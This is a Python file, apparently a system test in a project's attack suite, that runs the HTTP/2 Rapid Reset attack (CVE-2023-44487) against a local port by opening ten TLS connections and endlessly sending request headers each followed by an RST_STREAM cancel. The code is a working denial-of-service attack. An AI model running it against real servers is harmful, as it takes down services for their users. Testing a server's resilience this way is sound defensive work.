"""Begins requests and breaks them off at once: `python -m tests.system.attacks.rapid_reset PORT KEYS DRONE`.

CVE-2023-44487. Until it is ended, over ten connections that are made anew whenever they are closed.
"""

from __future__ import annotations

import contextlib
import itertools
import ssl
import sys
import threading
from pathlib import Path

from tests.system.hostile import connected, frame, head

from upwash.real.trust.authority import keys_in
from upwash.rpc.protocol import AVAILABILITY

CONNECTIONS = 10
AT_ONCE = 100
RST_STREAM = 3
CANCEL = (8).to_bytes(4)


def main(port: str, keys: str, drone: str) -> None:
    """Says "attacking" when it begins."""
    files = keys_in(Path(keys), drone)
    context = ssl.create_default_context(cafile=str(files.authority))
    context.load_cert_chain(files.certificate, files.key)
    context.set_alpn_protocols(["h2"])
    for _ in range(CONNECTIONS):
        threading.Thread(target=reset_for_ever, args=(int(port), context), daemon=True).start()
    print("attacking", flush=True)
    threading.Event().wait()


def reset_for_ever(port: int, context: ssl.SSLContext) -> None:
    """Over one connection after the other."""
    while True:
        with (
            contextlib.suppress(OSError),
            connected(port) as plain,
            context.wrap_socket(plain, server_hostname="s1") as connection,
        ):
            connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, b"", stream=0))
            for first in itertools.count(1, 2 * AT_ONCE):
                connection.sendall(
                    b"".join(
                        head(AVAILABILITY, stream=stream) + frame(RST_STREAM, 0, CANCEL, stream=stream)
                        for stream in range(first, first + 2 * AT_ONCE, 2)
                    )
                )


if __name__ == "__main__":
    main(*sys.argv[1:])
